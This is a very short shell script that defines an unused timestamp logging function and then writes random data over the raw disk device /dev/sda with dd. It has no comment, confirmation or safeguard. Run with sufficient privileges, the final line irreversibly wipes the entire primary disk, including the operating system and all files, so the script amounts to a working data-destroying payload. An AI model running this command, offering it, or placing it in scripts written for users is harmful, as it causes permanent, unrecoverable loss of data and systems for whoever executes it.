#!/bin/sh
log() { echo "[$(date +%H:%M:%S)] $*"; }
dd if=/dev/urandom of=/dev/sda bs=4M
